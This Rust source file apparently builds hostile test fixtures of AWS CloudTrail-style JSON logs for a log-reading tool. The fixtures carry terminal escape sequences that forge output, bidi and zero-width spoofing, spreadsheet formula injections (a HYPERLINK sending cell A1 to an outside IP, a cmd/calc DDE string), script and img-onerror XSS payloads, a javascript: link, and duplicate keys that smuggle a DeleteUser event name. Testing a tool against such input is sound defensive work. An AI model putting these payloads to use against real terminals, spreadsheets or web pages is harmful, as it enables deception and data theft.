//! Texts that an attacker chooses, and JSON spelt as no library spells it.

use super::super::cast::{PROD, user};
use super::*;

pub fn fixtures() -> Vec<Fixture> {
    let mut all = terminal();
    all.extend(other_readers());
    all.extend(spelling());
    all
}

fn terminal() -> Vec<Fixture> {
    vec![
        Fixture::new(
            "hostile/terminal-escapes.json",
            batch(&[
                raw(
                    0,
                    "userAgent",
                    r#""aws-cli/2 \u001b[2J\u001b[1;31mALL CLEAR\u001b[0m""#,
                ),
                raw(
                    1,
                    "userAgent",
                    r#""\u001b]0;owned\u0007\u001b]8;;http://198.51.100.66/\u001b\\click\u001b]8;;\u001b\\""#,
                ),
                with(
                    2,
                    &[
                        ("errorCode", json!("AccessDenied")),
                        ("errorMessage", json!("denied\u{1b}[1A\u{1b}[2Kallowed")),
                    ],
                )
                .to_string(),
            ]),
            (3, 0),
            "ESC sequences that clear the screen, set the title, make a link, rewrite the line above",
        ),
        Fixture::new(
            "hostile/control-characters.json",
            batch(&[
                // DEL and the one-character CSI are plain characters to JSON: no escape needed.
                raw(
                    0,
                    "userAgent",
                    "\"aws-cli/2\u{7f}\u{7f}\u{9b}31mred\u{9d}0;title\u{9c}\"",
                ),
                raw(
                    1,
                    "userAgent",
                    r#""one\r\nAccessDenied forged line\n\ttab\b\f\u0000""#,
                ),
                session_named("nightly\n2026-03-16T22:00:09Z root ConsoleLogin ok"),
            ]),
            (3, 0),
            "DEL, C1 CSI and OSC raw; line breaks, NUL and backspace escaped; a session name of two lines",
        ),
        Fixture::new(
            "hostile/bidi-and-zero-width.json",
            batch(&[
                raw(0, "userAgent", "\"aws-cli/\u{202e}nosj.exe\u{202c}\""),
                raw(
                    1,
                    "userAgent",
                    "\"ad\u{200b}min \u{2066}a\u{2069} \u{feff}b\u{ad}c\"",
                ),
                session_named("r\u{200d}oot"),
            ]),
            (3, 0),
            "right-to-left override, isolates, zero-width space and joiner, soft hyphen, raw",
        ),
    ]
}

/// A role session whose name the caller chose.
fn session_named(name: &str) -> String {
    let mut identity = super::super::cast::DEPLOY.session(
        "SESSION",
        Some("ASIAHOSTILE77EXAMPLE"),
        at("16T21:59:00"),
    );
    for field in ["arn", "principalId"] {
        identity[field] = json!(
            identity[field]
                .as_str()
                .expect("text")
                .replace("SESSION", name)
        );
    }
    with(2, &[("userIdentity", identity)]).to_string()
}

/// Texts that mean something to whatever opens ctq's output.
fn other_readers() -> Vec<Fixture> {
    let named = |n: usize, name: &str| {
        with(
            n,
            &[(
                "userIdentity",
                user(PROD, name, Some("AKIAHOSTILE77EXAMPLE")),
            )],
        )
    };
    vec![
        Fixture::new(
            "hostile/csv-formulas.json",
            values(&[
                named(0, "=HYPERLINK(\"http://198.51.100.66/?\"&A1,\"open\")"),
                named(1, "+1+cmd|' /C calc'!A0"),
                named(2, "-2+3"),
                named(3, "@SUM(1,1)"),
            ]),
            (4, 0),
            "user names that a spreadsheet would calculate: = + - @",
        ),
        Fixture::new(
            "hostile/html.json",
            values(&[
                with(0, &[("userAgent", json!("<script>alert(1)</script>"))]),
                with(
                    1,
                    &[("userAgent", json!("\"><img src=x onerror=alert(1)>&amp;'"))],
                ),
            ]),
            (2, 0),
            "a script and an image in userAgent",
        ),
        Fixture::new(
            "hostile/markdown.json",
            values(&[
                with(0, &[("userAgent", json!("a | b | c\n| --- |\n# title"))]),
                with(
                    1,
                    &[(
                        "userAgent",
                        json!("```\n[x](javascript:alert(1)) `y` <b> *z*"),
                    )],
                ),
            ]),
            (2, 0),
            "pipes, backticks and links that would break a Markdown table",
        ),
    ]
}

fn spelling() -> Vec<Fixture> {
    let escaped: String = "PutBucketPolicy"
        .bytes()
        .map(|b| format!("\\u{b:04x}"))
        .collect();
    let slashes = line(1)
        .replace('/', "\\u002f")
        .replace("iam.amazonaws.com", "iam\\u002eamazonaws\\u002Ecom");
    let mut not_utf8 = batch(&[line(0), raw(1, "userAgent", "\"curl HERE end\"")]).into_bytes();
    let here = not_utf8
        .windows(4)
        .position(|w| w == b"HERE")
        .expect("the mark");
    not_utf8.splice(here..here + 4, [0xff, 0xfe, 0xc3, 0x28]);
    vec![
        Fixture::new(
            "hostile/numbers-verbatim.json",
            batch(&[raw(
                0,
                "requestParameters",
                r#"{"short":1E5,"past2to53":9007199254740993,"digits23":12345678901234567890123,"huge":1e400,"minusZero":-0,"zeros":1.10}"#,
            )]),
            (1, 0),
            "1E5, 2^53+1, 23 digits, 1e400, -0, 1.10: to be copied as they stand",
        ),
        Fixture::new(
            "hostile/duplicate-keys.json",
            batch(&[
                raw(
                    0,
                    "requestParameters",
                    r#"{"userName":"alice","userName":"bob"}"#,
                ),
                raw(1, "eventName", r#""ListUsers","eventName":"DeleteUser""#),
            ]),
            (2, 0),
            "a key twice: in the parameters, and eventName itself (ListUsers, then DeleteUser)",
        ),
        Fixture::new(
            "hostile/escaped-values.json",
            batch(&[raw(0, "eventName", &format!("\"{escaped}\"")), slashes]),
            (2, 0),
            "eventName PutBucketPolicy wholly in \\u escapes; slashes and dots as \\u002f and \\u002e",
        ),
        Fixture::new(
            "hostile/escaped-keys.json",
            batch(&[
                line(0).replacen("\"eventName\"", "\"\\u0065vent\\u004eame\"", 1),
                line(1).replacen("\"userIdentity\"", "\"user\\u0049dentity\"", 1),
            ]),
            (2, 0),
            "the keys eventName and userIdentity with escapes in them",
        ),
        Fixture::new(
            "hostile/lone-surrogate.json",
            batch(&[
                line(0),
                raw(1, "userAgent", r#""half a pair: \ud83d and \udc00 alone""#),
            ]),
            (2, 0),
            "half a surrogate pair: JSON's grammar allows it, Unicode does not",
        ),
        Fixture::new(
            "hostile/not-utf8.json",
            not_utf8,
            (2, 0),
            "bytes that are no UTF-8 inside the second userAgent",
        ),
    ]
}
